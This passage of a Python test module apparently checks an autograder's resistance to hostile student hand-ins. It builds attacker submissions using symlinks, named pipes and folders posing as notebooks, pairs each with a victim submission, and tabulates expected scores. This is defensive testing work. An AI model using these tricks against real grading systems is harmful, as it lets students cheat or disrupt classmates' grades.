    Attack("lien_carnet", LINKS, lien_carnet, order=99),
]
ATTACK_BY_NAME = {a.name: a for a in ATTACKS}


def pair_for(attack):
    return Pair(f"h{attack.order:02d}_{attack.name}", f"h{attack.order:02d}_z_victime")


def write_hand_in(folder, hand_in):
    folder = handins.write_submission(folder, {k: v for k, v in hand_in.notebooks.items()}, timestamp=hand_in.timestamp,
                                 extra_files=hand_in.extra)
    for name, target in hand_in.links.items():
        (folder / name).symlink_to(target)
    for name in hand_in.fifos:
        os.mkfifo(folder / name)
    for name in hand_in.folders:
        (folder / name).mkdir()
        (folder / name / "lisez-moi.txt").write_text("un dossier, pas un notebook\n", encoding="utf-8")
    return folder


def build(root, L, ctx, attacks=None):
    """Write every attacker and its victim under root/submitted; {Pair: Attack}."""
    pairs = {}
    victim = victim_notebook(L)
    for attack in attacks or ATTACKS:
        pair = pair_for(attack)
        write_hand_in(Path(root) / "submitted" / pair.attacker / ASSIGNMENT, attack.build(L, ctx, pair))
        handins.write_submission(Path(root) / "submitted" / pair.victim / ASSIGNMENT, {NB2: victim})
        pairs[pair] = attack
    names = [p.attacker for p in pairs] + [p.victim for p in pairs]
    order = sorted(names)
    for pair in pairs:  # the victim comes right after its attacker
        assert order.index(pair.victim) == order.index(pair.attacker) + 1, pair
    return pairs


def expected(L, earns, registry=None):
    """{notebook stem: {grade_id: auto score}} of the graded code cells.

    ``earns``: "honest" (the layout's honest function), "digits"
    (initialize_parameters), "nothing", or "all_06_2" (a correct classmate).
    """
    registry = registry or grader_registry()
    earned = {
        "honest": {(L.target_nb, L.honest)},
        "digits": {(NB4, DIGITS_HONEST)},
        "nothing": set(),
        "all_06_2": {(NB2, f) for f in handins.graded_functions(L.release[NB2])},
    }[earns]
    result = {}
    for notebook, nb in L.release.items():
        stem = Path(notebook).stem
        result[stem] = {
            f"test_{name}": registry[name].points if (notebook, name) in earned else 0.0 for name in handins.graded_functions(nb)
        }
    return result
